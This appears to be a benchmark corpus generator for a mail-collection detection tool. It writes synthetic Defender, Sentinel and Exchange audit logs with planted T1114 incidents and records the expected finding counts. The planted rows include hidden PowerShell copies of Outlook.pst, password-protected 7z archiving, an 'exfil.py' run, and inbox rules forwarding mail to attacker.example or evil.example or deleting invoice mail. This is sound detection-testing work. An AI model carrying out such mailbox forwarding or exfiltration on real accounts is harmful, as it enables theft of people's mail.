#!/usr/bin/env python3
# bench/gen_corpus.py -- deterministic corpora for the mailward benchmark (JSON Lines, JSON, CSV, XML, W3C).
# Writes Defender DeviceFileEvents rows or Sentinel OfficeActivity rows (column names per
# docs/formats/defender.md and docs/formats/m365_audit.md) with planted T1114 incidents whose
# finding counts are known, and writes those counts to OUT.expected.json.
# SPDX-License-Identifier: MIT
"""Usage: gen_corpus.py --kind defender|office|adminxml|iis|msgtrack|graph|msgtrace|winevent|entra_signin|
entra_signin_graph|entra_audit|exchange_admin_audit|syslog|syslog-unjoined|dovecot|postfix|auditd|access|winlogbeat --size 1G [--seed N] --out FILE

adminxml: the New-AdminAuditLogSearch XML report of Exchange Server (docs/formats/exchange_admin_audit.md):
<SearchResults> with one <Event> per cmdlet run, CmdletParameters and ModifiedProperties."""

import argparse
import calendar
import json
import random
import sys
import time

BASE_EPOCH = calendar.timegm((2025, 3, 1, 0, 0, 0))
CHUNK = 8 << 20
UNIT_BYTES = 25 << 20  # one planted-incident unit per 25 MB of output (at least one)
DOMAIN = "contoso.example"

FIRST = ("alice bob carol dave erin frank grace heidi ivan judy mallory nina oscar peggy "
         "quentin rupert sybil trent ursula victor wendy xavier yvonne zach adele megan "
         "lidia diego lynne isaiah nestor pradeep joni miriam patti henrietta lee johanna "
         "alex irvin").split()
LAST = ("smith jones brown taylor wilson evans thomas roberts walker wright hall green "
        "baker adams clark lewis young king scott hill moore cooper ward morris").split()

HEX = "0123456789abcdef"


def parse_size(text):
    mult = {"K": 1 << 10, "M": 1 << 20, "G": 1 << 30}
    text = text.strip().upper().rstrip("B")
    if text and text[-1] in mult:
        return int(float(text[:-1]) * mult[text[-1]])
    return int(text)


def esc(text):
    """JSON string body (without quotes) for text."""
    return json.dumps(text)[1:-1]


class Clock:
    """Formats epoch seconds as ISO-8601 UTC, caching the minute prefix."""

    def __init__(self):
        self.minute = -1
        self.prefix = ""

    def iso(self, sec):
        minute = sec // 60
        if minute != self.minute:
            self.minute = minute
            self.prefix = time.strftime("%Y-%m-%dT%H:%M:", time.gmtime(minute * 60))
        return "%s%02d" % (self.prefix, sec % 60)


class Common:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.clock = Clock()
        rng = self.rng
        self.users = []
        seen = set()
        while len(self.users) < 400:
            name = "%s.%s" % (rng.choice(FIRST), rng.choice(LAST))
            if name in seen:
                name = "%s%d" % (name, len(self.users))
            seen.add(name)
            self.users.append(name)

    def hexs(self, n):
        return "%0*x" % (n, self.rng.getrandbits(4 * n))

    def guid(self):
        h = "%032x" % self.rng.getrandbits(128)
        return "%s-%s-4%s-a%s-%s" % (h[0:8], h[8:12], h[13:16], h[17:20], h[20:32])


class Writer:
    def __init__(self, path, limit):
        self.fh = open(path, "w", encoding="utf-8", newline="\n")
        self.parts = []
        self.pending = 0
        self.total = 0
        self.limit = limit

    def add(self, line):
        self.parts.append(line)
        self.pending += len(line) + 1
        if self.pending >= CHUNK:
            self.flush()

    def flush(self):
        if self.parts:
            self.fh.write("\n".join(self.parts))
            self.fh.write("\n")
            self.total += self.pending
            self.parts = []
            self.pending = 0

    def size(self):
        return self.total + self.pending

    def close(self):
        self.flush()
        self.fh.close()


# ---------------------------------------------------------------------------------------------
# Defender DeviceFileEvents

PROC_PATHS = {
    "outlook.exe": "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "winword.exe": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "excel.exe": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
    "explorer.exe": "C:\\Windows\\explorer.exe",
    "chrome.exe": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "msedge.exe": "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    "svchost.exe": "C:\\Windows\\System32\\svchost.exe",
    "TiWorker.exe": "C:\\Windows\\WinSxS\\amd64_tiworker\\TiWorker.exe",
    "SearchProtocolHost.exe": "C:\\Windows\\System32\\SearchProtocolHost.exe",
    "SearchIndexer.exe": "C:\\Windows\\System32\\SearchIndexer.exe",
    "MsMpEng.exe": "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090\\MsMpEng.exe",
    "MsSense.exe": "C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe",
    "powershell.exe": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "cmd.exe": "C:\\Windows\\System32\\cmd.exe",
    "python.exe": "C:\\Users\\Public\\Python311\\python.exe",
    "robocopy.exe": "C:\\Windows\\System32\\Robocopy.exe",
    "7z.exe": "C:\\Program Files\\7-Zip\\7z.exe",
    "7zG.exe": "C:\\Program Files\\7-Zip\\7zG.exe",
    "curl.exe": "C:\\Windows\\System32\\curl.exe",
    "backup.exe": "C:\\Program Files\\Contoso Backup\\backup.exe",
    "Teams.exe": "C:\\Users\\Public\\Teams\\current\\Teams.exe",
}

DOC_WORDS = ("budget report minutes plan q1 q2 q3 q4 invoice contract roadmap draft final "
             "summary review notes forecast design spec onboarding payroll inventory").split()
DOC_EXT = ["docx", "xlsx", "pptx", "pdf", "txt", "csv"]
TMP_EXT = ["tmp", "crdownload", "log", "json", "js", "css", "png", "partial"]
SYS_FILES = ["ntdll.dll", "kernelbase.dll", "wuaueng.dll", "msvcp140.dll", "setup.exe",
             "update.cab", "catalog.cat", "driver.sys", "wininet.dll", "mpengine.dll"]
SCRIPT_FILES = ["deploy.ps1", "inventory.ps1", "out.txt", "run.log", "msgpack.py",
                "requirements.txt", "report.json", "collect.bat", "setup.py", "emails.csv"]


class Defender(Common):
    def __init__(self, seed):
        super().__init__(seed)
        rng = self.rng
        self.devices = []
        for i in range(500):
            user = self.users[i % len(self.users)]
            sam = user.replace(".", "")[:12]
            dev = {
                "name": "%s-%03d.corp.%s" % (rng.choice(["ws", "lt", "desk", "vdi"]), i, DOMAIN),
                "id": self.hexs(40),
                "user": user,
                "sam": sam,
                "upn": "%s@%s" % (user, DOMAIN),
                "home": "C:\\Users\\%s" % sam,
            }
            self.devices.append(dev)
        self.report = 1000
        self.seen_keys = set()

    def row(self, ts_sec, frac, dev, action, fname, folder, proc, cmd, size=None):
        """One DeviceFileEvents row; folder is the directory, FolderPath gets the file name."""
        rng = self.rng
        self.report += rng.randint(1, 9)
        if size is None:
            size = rng.randint(200, 9_000_000)
        proc_path = PROC_PATHS.get(proc, "C:\\Windows\\System32\\" + proc)
        return (
            '{"Timestamp":"%s.%07dZ","DeviceId":"%s","DeviceName":"%s","ActionType":"%s",'
            '"FileName":"%s","FolderPath":"%s","SHA1":"%s","SHA256":"%s","FileSize":%d,'
            '"InitiatingProcessAccountName":"%s","InitiatingProcessAccountUpn":"%s",'
            '"InitiatingProcessFileName":"%s","InitiatingProcessFolderPath":"%s",'
            '"InitiatingProcessCommandLine":"%s","ReportId":%d}'
            % (self.clock.iso(ts_sec), frac, dev["id"], dev["name"], action, esc(fname),
               esc(folder + "\\" + fname), self.hexs(40),
               self.hexs(64) if rng.random() < 0.1 else "", size, dev["sam"],
               dev["upn"], proc, esc(proc_path.rsplit("\\", 1)[0].lower()), esc(cmd), self.report))

    def background(self, ts):
        rng = self.rng
        dev = rng.choice(self.devices)
        r = rng.random()
        home = dev["home"]
        frac = rng.randrange(10_000_000)
        if r < 0.38:
            proc = rng.choice(["winword.exe", "excel.exe", "explorer.exe", "Teams.exe"])
            fname = "%s_%s_%d.%s" % (rng.choice(DOC_WORDS), rng.choice(DOC_WORDS),
                                     rng.randint(1, 999), rng.choice(DOC_EXT))
            folder = home + rng.choice(["\\Documents", "\\Desktop", "\\Downloads",
                                        "\\OneDrive - Contoso\\Shared"])
            action = rng.choice(["FileCreated", "FileModified", "FileModified", "FileRenamed",
                                 "FileDeleted", "FileCopied"])
            cmd = '%s /n "%s"' % (proc.upper(), fname)
        elif r < 0.58:
            proc = rng.choice(["chrome.exe", "msedge.exe"])
            fname = "%s.%s" % (self.hexs(12), rng.choice(TMP_EXT))
            folder = home + rng.choice(["\\AppData\\Local\\Temp", "\\AppData\\Local\\Temp",
                                        "\\Downloads"])
            action = rng.choice(["FileCreated", "FileModified", "FileDeleted"])
            cmd = "%s --type=renderer --field-trial-handle=%d" % (proc, rng.randint(1000, 9999))
        elif r < 0.72:
            proc = rng.choice(["svchost.exe", "TiWorker.exe", "MsMpEng.exe"])
            fname = rng.choice(SYS_FILES)
            folder = rng.choice(["C:\\Windows\\System32", "C:\\Windows\\SoftwareDistribution\\Download",
                                 "C:\\Windows\\WinSxS\\Temp", "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans"])
            action = rng.choice(["FileCreated", "FileModified", "FileDeleted", "FileRenamed"])
            cmd = "%s -k netsvcs -p -s wuauserv" % PROC_PATHS.get(proc, proc)
        elif r < 0.84:
            # Outlook maintaining its own stores: mail extension, but an excluded process.
            proc = rng.choice(["outlook.exe", "outlook.exe", "SearchProtocolHost.exe",
                               "SearchIndexer.exe", "MsMpEng.exe", "MsSense.exe", "msedge.exe"])
            fname = rng.choice(["%s@%s.ost" % (dev["user"], DOMAIN), "Outlook.pst",
                                "archive.pst", "message_%d.msg" % rng.randint(1, 9999),
                                "saved.eml"])
            folder = home + "\\AppData\\Local\\Microsoft\\Outlook"
            action = rng.choice(["FileModified", "FileRead", "FileCreated", "FileCopied"])
            cmd = '"%s" /recycle' % PROC_PATHS[proc]
        elif r < 0.94:
            proc = rng.choice(["powershell.exe", "cmd.exe", "python.exe", "curl.exe"])
            fname = rng.choice(SCRIPT_FILES)
            folder = home + rng.choice(["\\Scripts", "\\AppData\\Local\\Temp", "\\source\\repos\\tool"])
            action = rng.choice(["FileCreated", "FileModified", "FileRead", "FileCopied"])
            cmd = "%s -NoProfile -ExecutionPolicy Bypass -File %s\\Scripts\\%s" % (
                proc, home, rng.choice(["deploy.ps1", "inventory.ps1", "cleanup.ps1"]))
        else:
            proc = "outlook.exe"
            fname = "%s_%d.%s" % (rng.choice(DOC_WORDS), rng.randint(1, 99), rng.choice(DOC_EXT))
            folder = home + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\" + \
                self.hexs(8).upper()
            action = rng.choice(["FileCreated", "FileRead"])
            cmd = '"%s" ' % PROC_PATHS[proc]
        return self.row(ts, frac, dev, action, fname, folder, proc, cmd)

    def plant(self, ts, unit):
        """Planted incidents and near misses around ts; returns (lines, expected d1 count)."""
        rng = self.rng
        dev = self.devices[(unit * 37) % len(self.devices)]
        dev2 = self.devices[(unit * 37 + 11) % len(self.devices)]
        home = dev["home"]
        olk = home + "\\AppData\\Local\\Microsoft\\Outlook"
        tb = home + "\\AppData\\Roaming\\Thunderbird\\Profiles\\x1b2c3d4.default-release\\Mail\\Local Folders"
        # (hit, action, file, folder, process, command line)
        cases = [
            (1, "FileCopied", "%s.pst" % dev["sam"], "C:\\Users\\Public\\Documents", "powershell.exe",
             "powershell.exe -nop -w hidden -c Copy-Item %s\\Outlook.pst C:\\Users\\Public\\Documents\\%s.pst" % (olk, dev["sam"])),
            (1, "FileCreated", "archive.ost", "D:\\backup\\mail", "robocopy.exe",
             "robocopy %s D:\\backup\\mail *.ost /R:0" % olk),
            (1, "FileRead", "Outlook.pst", olk, "7z.exe",
             '"C:\\Program Files\\7-Zip\\7z.exe" a -p C:\\ProgramData\\o.7z %s\\Outlook.pst' % olk),
            (1, "FileRead", "%s@%s.ost" % (dev["user"], DOMAIN), olk, "backup.exe",
             '"C:\\Program Files\\Contoso Backup\\backup.exe" --profile nightly'),
            (1, "FileCreated", "mail.pst.bak", "C:\\Users\\Public", "python.exe",
             "python.exe exfil.py --src Outlook.pst"),
            (1, "FileCopied", "export.mbox", tb, "explorer.exe", "C:\\Windows\\explorer.exe"),
            (1, "FileRenamed", "msg0001.eml", home + "\\Downloads", "cmd.exe",
             "cmd.exe /c ren msg0001.tmp msg0001.eml"),
            (1, "FileCreated", "Quarterly Report.msg", "C:\\ProgramData\\x", "curl.exe",
             "curl.exe -o \"C:\\ProgramData\\x\\Quarterly Report.msg\" https://files.example.net/q"),
            (1, "FileCopied", "Archive.PST", "E:\\", "POWERSHELL.EXE",
             "POWERSHELL.EXE Copy-Item *.pst E:\\"),
            (1, "FileRead", "names.nsf", home + "\\AppData\\Local\\Lotus\\Notes\\Data", "pwsh.exe",
             "pwsh.exe -c Get-Content names.nsf"),
            # near misses
            (0, "FileModified", "Outlook.ost", olk, "OUTLOOK.EXE", '"OUTLOOK.EXE" /recycle'),
            (0, "FileCreated", "Archive.pst", olk, "outlook.exe", '"outlook.exe"'),
            (0, "FileCopied", "notes.pstx", "C:\\Users\\Public", "powershell.exe",
             "powershell.exe Copy-Item notes.pstx"),
            (0, "FileCreated", "msgpack.py", home + "\\source\\repos\\tool", "python.exe",
             "python.exe -m pip install msgpack"),
            (0, "FileRead", "Outlook.pst", olk, "SearchIndexer.exe", "SearchIndexer.exe /Embedding"),
            (0, "FileRead", "Outlook.pst", olk, "MsMpEng.exe", "MsMpEng.exe"),
            (0, "FileDeleted", "stolen.pst", "C:\\Users\\Public", "powershell.exe",
             "powershell.exe Remove-Item stolen.pst"),
            (0, "FileModified", "old.pst", "D:\\x", "7z.exe", "7z.exe x old.7z"),
            (0, "FileCopied", "Outlook.pst", "D:\\Personal", "explorer.exe",
             "C:\\Windows\\explorer.exe"),
            (0, "FileCopied", "Outlook.pst", home + "\\AppData\\Local\\Microsoft\\OutlookBackup",
             "explorer.exe", "C:\\Windows\\explorer.exe"),
            (0, "FileCreated", "box.pst", "D:\\x", "7zG.exe", "7zG.exe x box.7z"),
            (0, "FileRead", "store.ost", home + "\\AppData\\Local\\Microsoft\\Outlook", "msedge.exe",
             "msedge.exe --single-argument"),
        ]
        lines = []
        hits = 0
        for i, (hit, action, fname, folder, proc, cmd) in enumerate(cases):
            d = dev if i % 3 else dev2
            lines.append(self.row(ts + i * 7, rng.randrange(10_000_000), d, action, fname, folder,
                                  proc, cmd, size=rng.randint(50_000_000, 900_000_000)))
            hits += hit
        return lines, hits

    def run(self, w, size):
        rng = self.rng
        units = max(1, size // UNIT_BYTES)
        next_unit = 0
        expected = {1: 0}
        ts = BASE_EPOCH
        while w.size() < size:
            if next_unit < units and w.size() >= next_unit * (size // units):
                lines, hits = self.plant(ts, next_unit)
                for line in lines:
                    w.add(line)
                expected[1] += hits
                next_unit += 1
                ts += 200
            for _ in range(64):
                w.add(self.background(ts))
                ts += rng.randint(0, 2)
        return expected


# ---------------------------------------------------------------------------------------------
# Sentinel OfficeActivity

CLIENT_INFO = [
    "Client=OWA;Action=ViewConversation",
    "Client=MSExchangeRPC",
    "Client=Microsoft.Outlook.Desktop;Version=16.0.17328.20162",
    "Client=REST;Client=RESTSystem;;",
    "Client=WebServices;Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro);",
]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Outlook-iOS/2.0",
]
FOLDERS = ["\\Inbox", "\\Sent Items", "\\Inbox\\Projects", "\\Archive", "\\Drafts"]


class Office(Common):
    def __init__(self, seed):
        super().__init__(seed)
        rng = self.rng
        self.org = self.guid()
        self.tenant = self.guid()
        self.people = []
        for i, user in enumerate(self.users):
            v6 = "2001:db8:%x:%x" % (rng.randint(1, 0xffff), rng.randint(1, 0xffff))
            self.people.append({
                "upn": "%s@%s" % (user, DOMAIN),
                "guid": self.guid(),
                "ip4a": "198.51.100.%d" % (1 + i % 250),
                "ip4b": "203.0.113.%d" % (1 + (i * 7) % 250),
                "v6": v6,
            })

    def ip_for(self, p):
        rng = self.rng
        r = rng.random()
        if r < 0.35:
            return p["ip4a"]
        if r < 0.6:
            return "%s:%d" % (p["ip4b"], rng.randint(1024, 65535))
        host = "%x:%x" % (rng.randint(1, 0xffff), rng.randint(1, 0xffff))
        if r < 0.85:
            return "[%s::%s]:%d" % (p["v6"], host, rng.randint(1024, 65535))
        return "%s:0:%s:%x" % (p["v6"], host, rng.randint(0, 0xffff))

    def row(self, ts, op, upn, ip, *, rtype, status="Succeeded", ua=None, info=None,
            params=None, opprops=None, office_id=None, owner=None, folders=None):
        rng = self.rng
        parts = ['{"TimeGenerated":"%sZ","Operation":"%s","OfficeWorkload":"Exchange",'
                 '"RecordType":"%s","UserType":"Regular","UserId":"%s","ClientIP":"%s"'
                 % (self.clock.iso(ts), op, rtype, upn, ip)]
        if status is not None:
            parts.append(',"ResultStatus":"%s"' % status)
        parts.append(',"OfficeId":"%s"' % (office_id or self.guid()))
        if info is not None:
            parts.append(',"ClientInfoString":"%s"' % esc(info))
        if ua is not None:
            parts.append(',"UserAgent":"%s"' % esc(ua))
        parts.append(',"MailboxOwnerUPN":"%s","Logon_Type":"Owner"' % (owner or upn))
        if params is not None:
            parts.append(',"Parameters":"%s"' % esc(json.dumps(
                [{"Name": n, "Value": v} for n, v in params], separators=(",", ":"))))
        if opprops is not None:
            parts.append(',"OperationProperties":"%s"' % esc(json.dumps(
                [{"Name": n, "Value": v} for n, v in opprops], separators=(",", ":"))))
        if folders is not None:
            parts.append(',"Folders":"%s"' % esc(json.dumps(
                [{"Path": folders, "Id": "LgAAAAB" + self.hexs(24)}], separators=(",", ":"))))
        parts.append(',"Type":"OfficeActivity"}')
        return "".join(parts)

    def mia(self, ts, p, ip, ua=None, info=None, status="Succeeded", office_id=None, op="MailItemsAccessed"):
        rng = self.rng
        return self.row(ts, op, p["upn"], ip, rtype="ExchangeItemAggregated", status=status,
                        ua=ua, info=info or rng.choice(CLIENT_INFO), office_id=office_id,
                        opprops=[("MailAccessType", rng.choice(["Bind", "Bind", "Sync"])),
                                 ("IsThrottled", "False")],
                        folders=rng.choice(FOLDERS))

    def background(self, ts):
        rng = self.rng
        p = rng.choice(self.people)
        ip = self.ip_for(p)
        r = rng.random()
        if r < 0.58:
            return self.mia(ts, p, ip)
        if r < 0.64:
            return self.row(ts, "FolderBind", p["upn"], ip, rtype="ExchangeItemGroup",
                            info=rng.choice(CLIENT_INFO), folders=rng.choice(FOLDERS))
        if r < 0.96:
            op = rng.choice(["Send", "Send", "MoveToDeletedItems", "SoftDelete", "Update",
                             "MailboxLogin", "Create", "Move"])
            rt = "ExchangeItem" if op in ("Send", "Update", "MailboxLogin", "Create") else "ExchangeItemGroup"
            return self.row(ts, op, p["upn"], ip, rtype=rt, info=rng.choice(CLIENT_INFO),
                            ua=rng.choice(UAS))
        if r < 0.975:
            op = rng.choice(["New-InboxRule", "Set-InboxRule"])
            return self.row(ts, op, p["upn"], ip, rtype="ExchangeAdmin", status="True",
                            params=[("Identity", p["upn"]), ("Name", "Newsletters"),
                                    ("From", "news@%s" % rng.choice(["example.com", "example.net"])),
                                    ("MoveToFolder", "Newsletters"), ("MarkAsRead", "False"),
                                    ("StopProcessingRules", "True")])
        if r < 0.985:
            return self.row(ts, "Set-Mailbox", p["upn"], ip, rtype="ExchangeAdmin", status="True",
                            params=[("Identity", p["upn"]), ("RetainDeletedItemsFor", "30.00:00:00"),
                                    ("ForwardingSmtpAddress", "")])
        if r < 0.995:
            return self.row(ts, "UpdateInboxRules", p["upn"], ip, rtype="ExchangeItem",
                            info="Client=MSExchangeRPC",
                            opprops=[("RuleOperation", "AddMailboxRule"), ("RuleName", "Receipts"),
                                     ("RuleActions", json.dumps(
                                         [{"ActionType": "Move", "DestinationFolderId": self.hexs(16),
                                           "FolderIsInThisStore": "True"}], separators=(",", ":")))])
        return self.row(ts, "New-TransportRule", p["upn"], ip, rtype="ExchangeAdmin", status="True",
                        params=[("Name", "Disclaimer"), ("ApplyHtmlDisclaimerText", "Confidential")])

    def plant(self, ts, unit):
        """Planted incidents around ts (aligned to a 30-minute bin); returns lines and counts."""
        rng = self.rng
        lines = []
        exp = {2: 0, 3: 0, 4: 0}
        bin0 = ts - ts % 1800 + 1800  # a fresh bin

        def who(tag):
            n = "%s.%s%d" % (tag, rng.choice(LAST), unit)
            return {"upn": "%s@%s" % (n, DOMAIN), "guid": self.guid(),
                    "ip4a": "192.0.2.%d" % (1 + unit % 250), "ip4b": "198.18.%d.%d" % (unit % 250, 7),
                    "v6": "2001:db8:ff%02x:%x" % (unit % 256, rng.randint(1, 0xffff))}

        def t_in(b):
            return b + rng.randint(0, 1799)

        pyua = "python-requests/2.31.0"
        # B1: 250 accesses in one bin from one IP with an automation user agent -> hit
        a = who("svc")
        for _ in range(250):
            lines.append(self.mia(t_in(bin0), a, "%s:%d" % (a["ip4b"], rng.randint(1024, 65535)),
                                  ua=pyua, info="Client=REST;Client=RESTSystem;;"))
        exp[2] += 1
        # B2: 40 accesses from 5 networks (IPv4, ip:port, [v6]:port) -> hit on distinct IPs
        b = who("exec")
        ips = [b["ip4a"], "%s:443" % b["ip4b"], "[%s::1]:8443" % b["v6"],
               "[2001:db8:77%02x:1::5]:1234" % (unit % 256), "100.64.%d.9" % (unit % 250)]
        for k in range(40):
            lines.append(self.mia(t_in(bin0), b, ips[k % 5]))
        exp[2] += 1
        # B3: 120 Succeeded + 90 with ResultStatus absent, MessageBind/FolderBind mixed -> hit
        c = who("ops")
        for k in range(210):
            op = ["MailItemsAccessed", "FolderBind", "MessageBind"][k % 3]
            lines.append(self.mia(t_in(bin0), c, c["ip4a"], status="Succeeded" if k < 120 else None,
                                  op=op))
        exp[2] += 1
        # N1: exactly 200 in one bin -> no
        d = who("audit")
        for _ in range(200):
            lines.append(self.mia(t_in(bin0), d, d["ip4a"]))
        # N2: 190 unique + 30 exact duplicates (same OfficeId, time, Operation) -> no
        e = who("sync")
        recs = []
        for _ in range(190):
            recs.append(self.mia(t_in(bin0), e, e["ip4a"]))
        recs.extend(rng.sample(recs, 30))
        lines.extend(recs)
        # N3: 150 + 150 straddling a bin boundary -> no
        f = who("batch")
        for k in range(300):
            t = bin0 + 1800 - 600 + rng.randint(0, 599) if k < 150 else bin0 + 1800 + rng.randint(0, 599)
            lines.append(self.mia(t, f, f["ip4a"]))
        # N4: three networks, many hosts in one IPv6 /64 and many ports -> 3 distinct, no
        g = who("travel")
        for k in range(60):
            m = k % 4
            ip = (g["ip4a"] if m == 0 else "%s:%d" % (g["ip4a"], 1024 + k) if m == 1 else
                  "[%s:%x::%x]:443" % (g["v6"], k, k) if m == 2 else "%s:%x:0:0:%x" % (g["v6"], k, k))
            if k % 7 == 0:
                ip = "%s:%d" % (g["ip4b"], 2000 + k)
            lines.append(self.mia(t_in(bin0), g, ip))
        # N5: 250 failed -> no
        h = who("locked")
        for _ in range(250):
            lines.append(self.mia(t_in(bin0), h, h["ip4a"], status="Failed", ua=pyua))

        # Forwarding and hiding rules.
        victim = self.people[(unit * 13) % len(self.people)]
        upn = victim["upn"]
        ip = "203.0.113.%d:%d" % (200 + unit % 50, 50000 + unit)
        t = bin0 + 60
        rules = [
            # (detections, operation, params, opprops)
            ((3,), "New-InboxRule", [("Identity", upn), ("Name", "."), ("ForwardTo", "drop%d@attacker.example" % unit),
                                     ("StopProcessingRules", "True")], None),
            ((3,), "Set-InboxRule", [("Identity", upn + "\\rule1"), ("RedirectTo", "x%d@mail.example.net" % unit)], None),
            ((3, 4), "New-InboxRule", [("Identity", upn), ("Name", ".."), ("ForwardAsAttachmentTo", "col%d@evil.example" % unit),
                                       ("MarkAsRead", "True"), ("MoveToFolder", "RSS Feeds")], None),
            ((3,), "Set-Mailbox", [("Identity", upn), ("ForwardingSmtpAddress", "smtp:fw%d@attacker.example" % unit),
                                   ("DeliverToMailboxAndForward", "False")], None),
            ((3,), "Set-Mailbox", [("Identity", upn), ("ForwardingAddress", "exec-assistant%d" % unit)], None),
            ((), "Set-Mailbox", [("Identity", upn), ("ForwardingSmtpAddress", "")], None),
            ((3,), "UpdateInboxRules", None,
             [("RuleOperation", "AddMailboxRule"), ("RuleName", "sync"),
              ("RuleActions", json.dumps([{"ActionType": "Forward", "Recipients": ["out%d@attacker.example" % unit]}],
                                         separators=(",", ":")))]),
            ((), "UpdateInboxRules", None,
             [("RuleOperation", "AddMailboxRule"), ("RuleName", "move"),
              ("RuleActions", json.dumps([{"ActionType": "Move", "DestinationFolderId": "AAMk%d" % unit}],
                                         separators=(",", ":")))]),
            ((4,), "New-InboxRule", [("Identity", upn), ("Name", "x"), ("SubjectContainsWords", "invoice;payment"),
                                     ("DeleteMessage", "True")], None),
            ((4,), "New-InboxRule", [("Identity", upn), ("Name", "y"),
                                     ("MoveToFolder", "%s:\\Conversation History" % upn)], None),
            ((4,), "Set-InboxRule", [("Identity", upn + "\\y"), ("SoftDeleteMessage", "true")], None),
            ((), "New-InboxRule", [("Identity", upn), ("Name", "proj"), ("MoveToFolder", "Projects\\Archive 2024")], None),
            ((), "New-InboxRule", [("Identity", upn), ("Name", "z"), ("DeleteMessage", "False"),
                                   ("MarkAsRead", "False")], None),
            ((), "Remove-InboxRule", [("Identity", upn + "\\rule1")], None),
        ]
        for i, (dets, op, params, opprops) in enumerate(rules):
            rt = "ExchangeItem" if op == "UpdateInboxRules" else "ExchangeAdmin"
            lines.append(self.row(t + i * 11, op, upn, ip, rtype=rt,
                                  status="True" if rt == "ExchangeAdmin" else "Succeeded",
                                  params=params, opprops=opprops, ua=UAS[0]))
            for dnum in dets:
                exp[dnum] += 1
        return lines, exp, bin0 + 3600

    def run(self, w, size):
        rng = self.rng
        units = max(1, size // UNIT_BYTES)
        next_unit = 0
        expected = {2: 0, 3: 0, 4: 0}
        ts = BASE_EPOCH
        dup = []
        while w.size() < size:
            if next_unit < units and w.size() >= next_unit * (size // units):
                lines, exp, ts = self.plant(ts, next_unit)
                for line in lines:
                    w.add(line)
                for k, v in exp.items():
                    expected[k] += v
                next_unit += 1
            for _ in range(64):
                line = self.background(ts)
                w.add(line)
                if rng.random() < 0.005:
                    dup.append(line)
                ts += 1 if rng.random() < 0.9 else 0
            if len(dup) >= 16:
                for line in dup:
                    w.add(line)  # API duplicate deliveries
                dup = []
        return expected


# ---------------------------------------------------------------------------------------------
# Exchange Server admin audit XML report (New-AdminAuditLogSearch)

def xattr(text):
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;"))


class AdminXml(Common):
    CMDLETS = ["Get-Mailbox", "Set-Mailbox", "Set-CASMailbox", "Add-MailboxPermission",
               "Set-MailboxFolderPermission", "New-MoveRequest", "Set-User", "Enable-Mailbox"]

    def event(self, ts, cmdlet, obj, params, props=(), ok=True):
        rng = self.rng
        t = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(ts)) + "+01:00"
        head = ('  <Event Caller="corp.example.org/Users/%s" Cmdlet="%s" ObjectModified='
                '"corp.example.org/Users/%s" RunDate="%s" Succeeded="%s" Error="%s" '
                'OriginatingServer="MBX%02d (15.02.1544.004)">'
                % (xattr(rng.choice(self.users)), cmdlet, xattr(obj), t,
                   "true" if ok else "false", "None" if ok else "Access denied", rng.randint(1, 8)))
        lines = [head, "    <CmdletParameters>"]
        lines += ['      <Parameter Name="%s" Value="%s" />' % (n, xattr(v)) for n, v in params]
        lines.append("    </CmdletParameters>")
        if props:
            lines.append("    <ModifiedProperties>")
            lines += ['      <Property Name="%s" OldValue="%s" NewValue="%s" />'
                      % (n, xattr(o), xattr(v)) for n, o, v in props]
            lines.append("    </ModifiedProperties>")
        else:
            lines.append("    <ModifiedProperties />")
        lines.append("  </Event>")
        return "\n".join(lines)

    def background(self, ts):
        rng = self.rng
        obj = rng.choice(self.users)
        cmdlet = rng.choice(self.CMDLETS)
        params = [("Identity", obj)]
        props = ()
        if cmdlet == "Set-Mailbox":
            params.append(("ProhibitSendQuota", "%dGB" % rng.randint(2, 99)))
            props = (("ProhibitSendQuota", "unlimited", params[-1][1]),)
        elif cmdlet == "Add-MailboxPermission":
            params += [("User", rng.choice(self.users)), ("AccessRights", "ReadPermission")]
        elif cmdlet == "Set-MailboxFolderPermission":
            params += [("User", "Default"), ("AccessRights", "None")]
        elif cmdlet == "New-MoveRequest":
            params.append(("TargetDatabase", "DB%02d" % rng.randint(1, 20)))
        return self.event(ts, cmdlet, obj, params, props, ok=rng.random() > 0.02)

    def plant(self, ts, unit):
        obj = self.users[unit % len(self.users)]
        return self.event(ts, "Set-Mailbox", obj,
                          [("Identity", obj),
                           ("ForwardingSmtpAddress", "smtp:drop%d@attacker.example" % unit),
                           ("DeliverToMailboxAndForward", "False")],
                          (("ForwardingSmtpAddress", "", "smtp:drop%d@attacker.example" % unit),))

    def run(self, w, size):
        rng = self.rng
        units = max(1, size // UNIT_BYTES)
        next_unit = 0
        ts = BASE_EPOCH
        w.add('<?xml version="1.0" encoding="utf-8"?>')
        w.add("<SearchResults>")
        while w.size() < size:
            if next_unit < units and w.size() >= next_unit * (size // units):
                w.add(self.plant(ts, next_unit))
                next_unit += 1
            for _ in range(64):
                w.add(self.background(ts))
                ts += rng.randint(0, 3)
        w.add("</SearchResults>")
        return {"forwarding": next_unit}
# IIS W3C logs of an Exchange front end and Exchange message tracking logs
# (docs/formats/exchange_iis.md, docs/formats/exchange_message_tracking.md): CRLF lines,
# directives again after every simulated restart (every ~8 MB), the restart's #Fields line
# naming another field set every other time. No rule reads these logs yet: no findings.

IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
              "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken")
IIS_FIELDS_XFF = IIS_FIELDS + " X-Forwarded-For"
IIS_REQS = [
